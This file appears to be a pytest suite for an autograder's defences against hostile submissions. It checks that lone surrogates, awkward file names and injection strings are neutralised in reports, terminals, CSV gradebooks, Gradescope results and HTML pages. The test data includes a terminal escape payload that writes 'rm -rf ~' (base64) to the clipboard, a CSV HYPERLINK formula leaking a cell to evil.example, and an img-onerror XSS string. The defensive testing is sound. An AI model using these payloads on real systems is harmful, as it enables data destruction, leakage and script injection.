"""Hostile text in the views of a report: the instructor's terminal, files and gradebook.

Part of the adversarial suite (see tests/test_adversarial.py for attacks on the grading
itself). A submission controls what it prints, its exceptions' messages and type names, the
hints that quote them, the notes about its cells, and its file and folder names. All of that
reaches JSON reports, terminals (`grade -v`, `grade batch`, `grade report`), grades.csv, the
class report page and Gradescope's results.json. The tests grade hostile submissions end to
end and check that:

- every JSON the grader writes is valid Unicode, whatever the strings held (a lone surrogate);
- every submission gets a report of its own whatever its name (too long, or colliding with
  another's report), and one submission's failure is its report, never the batch's;
- no escape sequence reaches a terminal, no cell of grades.csv is a formula, and no control
  character reaches results.json or the class report page;
- every piece of report text on the HTML pages (feedback and class report) is text, never
  markup, and no page template may turn escaping off.

Fast unit tests of :mod:`grader.core.sanitize` and of the report-path mapping come first.
"""

from __future__ import annotations

import contextlib
import csv
import errno
import io
import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from jinja2 import nodes

from grader.cli import main
from grader.core.assignment import Assignment
from grader.core.report import Flag, GradeReport, PartResult, Status, write_atomic
from grader.core.report import TestResult as Check
from grader.core.sanitize import clean, csv_text, for_csv, for_terminal
from grader.engine import batch
from grader.engine.batch import grade_batch, report_path
from grader.export.gradescope import run as run_on_gradescope
from grader.results.folder import BatchResult, read_results
from grader.results.outputs import write_outputs
from grader.results.students import Roster, handins
from grader.views.html_templates import ENVIRONMENT
from reference import as_submission
from tests.conftest import ASSIGNMENT_03, TEST_LIMITS, mutant, notebook_text
from tests.test_gradebook import DONE, STUB, write
from tests.test_gradebook import report as gradebook_report

slow = pytest.mark.slow
REFERENCE = as_submission("multihead")
SPLIT_HEADS_START = "    batch, length, d_model = x.shape\n"
COMBINE_HEADS_START = "    batch, num_heads, length, d_k = x.shape\n"
# What a terminal would run: clear the screen and home the cursor (to draw a table of one's
# own), write the clipboard (OSC 52, ended by ST: rich drops BEL), and a CSI as one C1 byte.
ATTACKS = ("\x1b[2J", "\x1b[H", "\x1b]52;", "\x9b")
ESCAPES = "\x1b[2J\x1b[H\x1b]52;c;cm0gLXJmIH4K\x1b\\\x9b2J"
FAKE_TABLE = ESCAPES + "total 26 / 26"
# Control characters but newline and tab: what no view may show raw.
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
CLI_LIMITS = ["--device", "cpu", "--timeout", str(TEST_LIMITS.call_timeout_s), "--memory", "2"]


def in_split_heads_for_six_heads(statement: str) -> str:
    """The reference, whose split_heads runs ``statement`` for 6 heads (one test's case)."""
    return mutant(REFERENCE, SPLIT_HEADS_START, SPLIT_HEADS_START + f"    if num_heads == 6:\n        {statement}\n")


# Loses the points of one test; the message of that test holds a lone surrogate.
SURROGATE = in_split_heads_for_six_heads("raise ValueError('bad heads \\ud800')")
# Prints escape sequences, raises an exception whose type name and message hold them, and has a
# combine_heads that claims to be split_heads' stub: the hint names combine_heads, where the raise
# is, and quotes what it says.
ESCAPING = (f"print({FAKE_TABLE!r})\nEvil = type({'Evil' + ESCAPES!r}, (Exception,), {{}})\n"
            + mutant(in_split_heads_for_six_heads(f"raise Evil({FAKE_TABLE!r})"), COMBINE_HEADS_START,
                     f"    raise NotImplementedError({'split_heads: ' + FAKE_TABLE!r})\n"))


def hand_in(folder: Path, files: dict[str | bytes, str]) -> Path:
    """A submissions folder; a name given as bytes need not be valid UTF-8."""
    for name, text in files.items():
        path = folder / (os.fsdecode(name) if isinstance(name, bytes) else name)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return folder


def grade_class(folder: Path, out: Path) -> int:
    """`grade batch` of ``folder`` into ``out``; its exit status."""
    return main(["batch", str(ASSIGNMENT_03), str(folder), "--out", str(out), "--jobs", "2", *CLI_LIMITS])


def strict_json(path: Path):
    """The JSON in ``path``, read as strictly as any parser would."""
    data = json.loads(path.read_bytes().decode("utf-8"))  # no lone surrogate in the bytes
    json.dumps(data, ensure_ascii=False).encode("utf-8")  # nor one written as an escape (\ud800)
    return data


def strings(data) -> list[str]:
    """Every string in JSON ``data``, keys included."""
    if isinstance(data, str):
        return [data]
    if isinstance(data, dict):
        return [*data, *(text for value in data.values() for text in strings(value))]
    if isinstance(data, list):
        return [text for item in data for text in strings(item)]
    return []


def attacks_in(text: str) -> list[str]:
    return [attack for attack in ATTACKS if attack in text]


@pytest.fixture
def terminal(monkeypatch):
    """Every rich console is a wide terminal, as when the instructor runs the command."""
    monkeypatch.setenv("TTY_COMPATIBLE", "1")
    monkeypatch.setenv("COLUMNS", "250")


# ---- the rules (fast) -----------------------------------------------------------------


def test_sanitize_rules():
    assert clean("a\ud800b\udcff") == "a\ufffdb\ufffd"
    assert clean("x" * 100, limit=40).endswith("[... 60 more characters cut]") and len(clean("x" * 100, limit=40)) == 40
    assert for_terminal(f"ok\n\tok{ESCAPES}\r\x00\x7f") == "ok\n\tok?[2J?[H?]52;c;cm0gLXJmIH4K?\\?2J???"
    assert not attacks_in(for_terminal(FAKE_TABLE)) and for_terminal("\ud800") == "\ufffd"
    for cell in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx"):
        assert for_csv(cell) == "'" + cell
    assert for_csv("\rx") == "?x"  # a carriage return is a control character first
    assert for_csv("alice/mha.py") == "alice/mha.py" and for_csv("=A1\x1b") == "'=A1?"


def test_each_string_of_json_data_is_made_safe():
    from grader.core.sanitize import each_string

    data = {"a\ud800": ["\x1b[2J", {"b": "\ud800"}, 1, None, 2.5, True]}
    assert each_string(data, clean) == {"a\ufffd": ["\x1b[2J", {"b": "\ufffd"}, 1, None, 2.5, True]}
    assert each_string(data, for_terminal) == {"a\ufffd": ["?[2J", {"b": "\ufffd"}, 1, None, 2.5, True]}


# Names a class may hand in: each must get a report of its own.
AWKWARD_NAMES = [
    "hw", "hw.json/hw", "hw.json/mha.py", "a/b.py", "a%2Fb.py", "a%2fb.py", "Alice/mha.py", "alice/mha.py",
    "x" * 240 + ".py", "x" * 240 + ".pY", "x" * 239 + "%.py", "d/" * 120 + "deep.py", "sp ace~.py",
    os.fsdecode(b"caf\xe9.py"), os.fsdecode(b"caf\xc3\xa9.py"), "é" * 120 + ".py", "=HYPERLINK(1).py",
]


def test_report_paths_are_flat_distinct_even_ignoring_case_and_short_enough(tmp_path):
    paths = [report_path(tmp_path, Path(name)) for name in AWKWARD_NAMES]
    assert all(path.parent == tmp_path / "reports" for path in paths)
    assert len({path.name.casefold() for path in paths}) == len(paths)  # also on a case-insensitive disk
    assert all(path.suffix == ".json" and len(os.fsencode(path.name)) <= 200 for path in paths)
    for name, path in zip(AWKWARD_NAMES, paths):  # written as reports are, with a temporary name beside
        write_atomic(path, clean(name) + "\n")
    assert [path.read_text().rstrip("\n") for path in paths] == [clean(name) for name in AWKWARD_NAMES]


def test_short_plain_report_names_stay_readable(tmp_path):
    assert report_path(tmp_path, Path("alice/mha.py")).name == "alice%2Fmha.py.json"


# ---- 1. lone surrogates: every JSON is valid --------------------------------------------


@slow
def test_grade_json_of_a_lone_surrogate_in_an_exception_is_valid(tmp_path):
    submission, out = tmp_path / "mha.py", tmp_path / "report.json"
    submission.write_text(SURROGATE)
    assert main([str(ASSIGNMENT_03), "--submission", str(submission), "--json", str(out), *CLI_LIMITS, "-q"]) == 0
    report = strict_json(out)
    assert report["status"] == Status.GRADED and 0 < report["score"] < report["max_score"]
    assert "bad heads \ufffd" in json.dumps(report, ensure_ascii=False)


@slow
def test_a_batch_with_lone_surrogates_and_undecodable_names_finishes_with_valid_json(tmp_path, capsys):
    folder = hand_in(tmp_path / "class", {"alice/mha.py": REFERENCE, "mallory/mha.py": SURROGATE,
                                          b"trudy/caf\xe9.py": REFERENCE})
    out = tmp_path / "results"
    assert grade_class(folder, out) == 0
    assert json.loads(capsys.readouterr().out)["submissions"] == 3  # stdout is not a terminal: the summary
    assert strict_json(out / "summary.json")["counts"] == {"graded": 3, "ungradable": 0, "grader_error": 0}
    reports = [strict_json(path) for path in sorted((out / "reports").iterdir())]
    assert len(reports) == 3 and all(report["status"] == Status.GRADED for report in reports)
    rows = list(csv.DictReader((out / "grades.csv").read_bytes().decode("utf-8").splitlines()))
    assert [row["student"] for row in rows] == ["alice", "mallory", "trudy"]
    assert [row["submission"] for row in rows] == ["alice/mha.py", "mallory/mha.py", "trudy/caf\ufffd.py"]
    assert grade_class(folder, out) == 0  # and resumable, with the same options
    assert json.loads(capsys.readouterr().out)["timing"]["skipped_up_to_date"] == 3


@slow
def test_gradescope_results_of_a_lone_surrogate_are_valid_json(tmp_path):
    hand_in(tmp_path / "submission", {"mha.py": SURROGATE})
    run_on_gradescope(tmp_path, ASSIGNMENT_03)
    results = strict_json(tmp_path / "results" / "results.json")
    assert "not your fault" not in results["output"] and 0 < results["score"]
    assert any("bad heads \ufffd" in test["output"] for test in results["tests"])


# ---- 2. report paths that collide or overflow -----------------------------------------


@slow
def test_names_that_collide_or_overflow_each_get_a_report_that_grade_report_finds(tmp_path, capsys):
    # "hw"'s report was reports/hw.json: the mirror of the folder hw.json/; a 244-byte name
    # left no room for the temporary name a report is written under.
    names = ["hw", "hw.json/notes.txt", "x" * 240 + ".txt"]
    folder = hand_in(tmp_path / "class", dict.fromkeys(names, "not a submission"))
    out = tmp_path / "results"
    assert grade_class(folder, out) == 0
    for name in names:
        report = GradeReport.from_dict(strict_json(report_path(out, Path(name))))
        assert report.submission == str(folder / name) and report.status == Status.UNGRADABLE
    assert read_results(out).statistics.submissions == 3
    capsys.readouterr()
    assert grade_class(folder, out) == 0  # every report is found again: nothing regraded
    assert json.loads(capsys.readouterr().out)["timing"]["skipped_up_to_date"] == 3


# ---- 3. one submission's failure is its report ----------------------------------------


@slow
def test_a_submission_whose_grading_cannot_start_gets_a_grader_error_and_the_batch_goes_on(tmp_path, monkeypatch):
    def start_grading(assignment, submission, *args, **kwargs):
        if "bob" in str(submission):
            raise OSError(errno.EAGAIN, "fork: Resource temporarily unavailable")
        return batch_start_grading(assignment, submission, *args, **kwargs)

    batch_start_grading = batch.start_grading
    monkeypatch.setattr(batch, "start_grading", start_grading)
    folder = hand_in(tmp_path / "class", {"alice/mha.py": REFERENCE, "bob/mha.py": REFERENCE, "carol/mha.py": REFERENCE})
    out = tmp_path / "results"
    assert grade_class(folder, out) == 1  # a grader error
    bob = strict_json(report_path(out, Path("bob/mha.py")))
    assert bob["status"] == Status.GRADER_ERROR and "Resource temporarily unavailable" in bob["error"]
    assert strict_json(out / "summary.json")["counts"] == {"graded": 2, "ungradable": 0, "grader_error": 1}
    assert len((out / "grades.csv").read_text().splitlines()) == 4


@slow
def test_a_report_that_cannot_be_written_is_a_grader_error_and_the_batch_goes_on(tmp_path):
    folder = hand_in(tmp_path / "class", {"alice/mha.py": REFERENCE, "bob/mha.py": REFERENCE})
    out = tmp_path / "results"
    in_the_way = report_path(out, Path("alice/mha.py"))
    (in_the_way / "a folder").mkdir(parents=True)  # where alice's report should go
    assert grade_class(folder, out) == 1
    assert strict_json(out / "summary.json")["counts"] == {"graded": 1, "ungradable": 0, "grader_error": 1}
    rows = {row["submission"]: row for row in csv.DictReader((out / "grades.csv").open())}
    assert rows["alice/mha.py"]["status"] == Status.GRADER_ERROR and rows["bob/mha.py"]["status"] == Status.GRADED


def test_ctrl_c_while_starting_a_submission_stops_the_batch(tmp_path, monkeypatch):
    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(batch, "start_grading", interrupted)
    folder = hand_in(tmp_path / "class", {"alice/mha.py": REFERENCE})
    with pytest.raises(KeyboardInterrupt):
        grade_batch(ASSIGNMENT_03, folder, tmp_path / "results", device="cpu", limits=TEST_LIMITS)


# ---- 4. terminal injection --------------------------------------------------------------


@slow
def test_grade_verbose_shows_what_the_student_controls_as_text(tmp_path, capsys, monkeypatch):
    # Printed output, an exception's type name and message, a hint quoting one, a note about a
    # cell, and the file name: each holds escape sequences.
    monkeypatch.setenv("COLUMNS", "250")  # long lines are not folded inside an escape sequence
    submission = tmp_path / f"mha{ESCAPES}.ipynb"
    submission.write_text(notebook_text(ESCAPING, f"raise Evil({FAKE_TABLE!r})"))
    assert main([str(ASSIGNMENT_03), "--submission", str(submission), *CLI_LIMITS, "-v"]) == 0
    shown = capsys.readouterr()
    assert "\x1b" not in shown.out + shown.err and "\x9b" not in shown.out + shown.err  # not a terminal: no styles
    assert shown.out.count("?[2J?[H?]52;c;cm0gLXJmIH4K?\\?2J") >= 4  # output, message, hint, note
    assert "mha?[2J" in shown.out and "Evil?[2J" in shown.out


@pytest.mark.parametrize("command", ["grade", "batch"])
def test_a_path_with_markup_or_escapes_in_a_cli_message_is_shown_as_text(tmp_path, capsys, command):
    missing = tmp_path / f"hw[/][bold]{ESCAPES}"
    args = ([str(ASSIGNMENT_03), "--submission", f"{missing}.py"] if command == "grade"
            else ["batch", str(ASSIGNMENT_03), str(missing), "--out", str(tmp_path / "results")])
    assert main(args) == 2
    error = capsys.readouterr().err
    assert "hw[/][bold]?[2J" in error and "\x1b" not in error


@pytest.fixture(scope="module")
def escaping_class(tmp_path_factory) -> tuple[Path, str]:
    """`grade batch` of a class with an ESCAPING submission, on a terminal: (results, what it showed)."""
    tmp = tmp_path_factory.mktemp("escaping")
    folder = hand_in(tmp / "class", {"alice/mha.py": REFERENCE, "mallory/mha.py": ESCAPING})
    shown = io.StringIO()
    with pytest.MonkeyPatch.context() as env, contextlib.redirect_stdout(shown):
        env.setenv("TTY_COMPATIBLE", "1")
        env.setenv("COLUMNS", "250")
        assert grade_class(folder, tmp / "results") == 0
    return tmp / "results", shown.getvalue()


@slow
def test_the_batch_summary_on_a_terminal_shows_a_quoted_hint_as_text(escaping_class):
    _, shown = escaping_class
    assert "most frequent hints" in shown and "still a stub (split_heads: ?[2J?[H?]52;" in shown
    assert not attacks_in(shown)


@slow
def test_the_class_table_on_a_terminal_shows_report_text_as_text(escaping_class, terminal, capsys):
    results, _ = escaping_class
    assert main(["report", str(results), "--html", str(results.parent / "class.html")]) == 0
    shown = capsys.readouterr().out
    assert "still a stub (split_heads: ?[2J?[H?]52;" in shown and not attacks_in(shown)


# ---- 5. CSV injection -----------------------------------------------------------------


@slow
def test_gradebook_cells_are_never_formulas(tmp_path):
    formulas = ['=HYPERLINK("evil.example?"&C2;"click")', "@SUM(1+1)", "+cmd", "-2+3", "\tx", "\rx"]
    folder = hand_in(tmp_path / "class", {f"{name}/notes.txt": "not a submission" for name in formulas})
    out = tmp_path / "results"
    assert grade_class(folder, out) == 0
    for gradebook in ("grades.csv", "canvas.csv", "gradescope.csv"):
        with (out / gradebook).open(newline="") as file:
            rows = list(csv.reader(file))
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], gradebook
    with (out / "grades.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    # Each folder is a student: their id and the file graded for them are text.
    assert sorted(row["student"] for row in rows) == sorted(for_csv(name) for name in formulas)
    assert sorted(row["submission"] for row in rows) == sorted(for_csv(f"{name}/notes.txt") for name in formulas)


# ---- 6. Gradescope --------------------------------------------------------------------


@slow
def test_gradescope_results_have_no_control_characters(tmp_path):
    hand_in(tmp_path / "submission", {"mha.py": ESCAPING})
    run_on_gradescope(tmp_path, ASSIGNMENT_03)
    results = strict_json(tmp_path / "results" / "results.json")
    assert "not your fault" not in results["output"]
    assert 0 < results["score"] < sum(test["max_score"] for test in results["tests"])
    assert not [text for text in strings(results) if CONTROL.search(text)]
    assert any("still a stub (split_heads: ?[2J?[H?]52;" in test["output"] for test in results["tests"])


# ---- 7. the class report page ---------------------------------------------------------


@slow
def test_the_class_report_page_has_no_control_characters(escaping_class, tmp_path):
    results, _ = escaping_class
    assert main(["report", str(results), "--html", str(tmp_path / "class.html")]) == 0
    page = (tmp_path / "class.html").read_text(encoding="utf-8")
    assert "still a stub (split_heads: ?[2J?[H?]52;" in page and not CONTROL.search(page)


# Markup, an attribute's end, an entity and control characters; no "/", so that a folder or
# a file may be named so.
HTML_ATTACK = '<img src=x onerror="alert(1)"> &amp; \x1b[2J\x9b'
# Everything the two pages' layout is made of: an element or attribute that report text
# smuggled in would be another.
PAGE_ELEMENTS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "br", "ul", "li", "pre",
                 "code", "div", "table", "thead", "tbody", "tfoot", "tr", "th", "td", "a", "figure", "figcaption",
                 "svg", "rect", "line", "text"}
PAGE_ATTRIBUTES = {"lang", "charset", "name", "content", "class", "href", "width", "height", "viewbox", "role",
                   "aria-label", "x", "y", "x1", "x2", "y1", "y2", "stroke", "text-anchor"}


def attack(field: str) -> str:
    return f"{HTML_ATTACK} {field}"


class Elements(HTMLParser):
    """A page's elements and attributes, and the text a reader sees (an SVG's label included)."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements, self.attributes, self.text = set(), set(), []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.elements.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.text += [value for name, value in attrs if name == "aria-label"]

    def handle_data(self, data):
        self.text.append(data)


def test_report_text_on_both_html_pages_is_text(tmp_path):
    # A student whose id, name, file and every text of their report is an attack, a part of
    # that name, a classmate whose file is ungradable, and a file under reports/ that is no report.
    assignment = Assignment.load(ASSIGNMENT_03)
    graded = f"s/{attack('file')}.py"
    files = write(tmp_path / "class", {graded: DONE, "s/other.py": STUB, "u/notes.txt": "not a submission"})
    hostile = gradebook_report(graded, assignment, {"split_heads": 1.0},
                               hints={"split_heads": f"{attack('hint')}\n{attack('second line')}"})
    hostile.parts.append(PartResult(attack("part"), 0.0, 1.0, attack("part hint"), [
        Check(attack("test"), "failed", attack("message"), attack("test hint"), 0.0, 1.0)]))
    hostile.notes, hostile.output = [attack("note")], attack("output")
    hostile.flags = [Flag(attack("kind"), attack("where"), attack("detail"))]
    ungradable = gradebook_report("u/notes.txt", assignment, status=Status.UNGRADABLE)
    ungradable.error = attack("error")
    reports = {Path(graded): hostile, Path("s/other.py"): gradebook_report("s/other.py", assignment),
               Path("u/notes.txt"): ungradable}
    roster = Roster.parse(csv_text([["student", "name", "path"], [attack("id"), attack("name"), "s"], ["u", "", "u"]]))
    out = tmp_path / "results"
    for relative, report in reports.items():
        report.write_json(report_path(out, relative))
    (out / "reports" / f"{attack('skipped')}.json").write_text("not a report")
    write_outputs(BatchResult(assignment, reports, 3, 0, 1.0, handins(files, tmp_path / "class", assignment, roster)), out)
    assert main(["feedback", str(out)]) == 0 and main(["report", str(out)]) == 0

    [feedback] = [page.read_text(encoding="utf-8") for page in (out / "feedback").glob("*.html") if page.name != "u.html"]
    class_page = (out / "report.html").read_text(encoding="utf-8")
    for page, fields in [
        (feedback, ["name", "file", "hint", "second line", "part", "test", "message", "test hint", "note", "output"]),
        (class_page, ["id", "name", "file", "hint", "part", "test", "error", "kind", "where", "detail", "skipped"]),
    ]:
        seen = Elements(page)
        assert seen.elements <= PAGE_ELEMENTS and seen.attributes <= PAGE_ATTRIBUTES
        assert not CONTROL.search(page)
        text = "".join(seen.text)
        assert [field for field in fields if for_terminal(attack(field)) not in text] == []
    assert "br" in Elements(feedback).elements  # the hint's second line, on a line of its own


def test_no_page_template_turns_escaping_off():
    # What the attack above cannot reach: a field it does not fill, in a template to come.
    templates = ENVIRONMENT.list_templates()
    assert {"feedback.html.j2", "class_report.html.j2"} <= set(templates)
    for name in templates:
        assert ENVIRONMENT.autoescape is True or ENVIRONMENT.autoescape(name), name
        source, _, _ = ENVIRONMENT.loader.get_source(ENVIRONMENT, name)
        tree = ENVIRONMENT.parse(source)
        assert not [node for node in tree.find_all(nodes.Filter) if node.name == "safe"], name
        assert not list(tree.find_all(nodes.ScopedEvalContextModifier)), name  # {% autoescape false %}
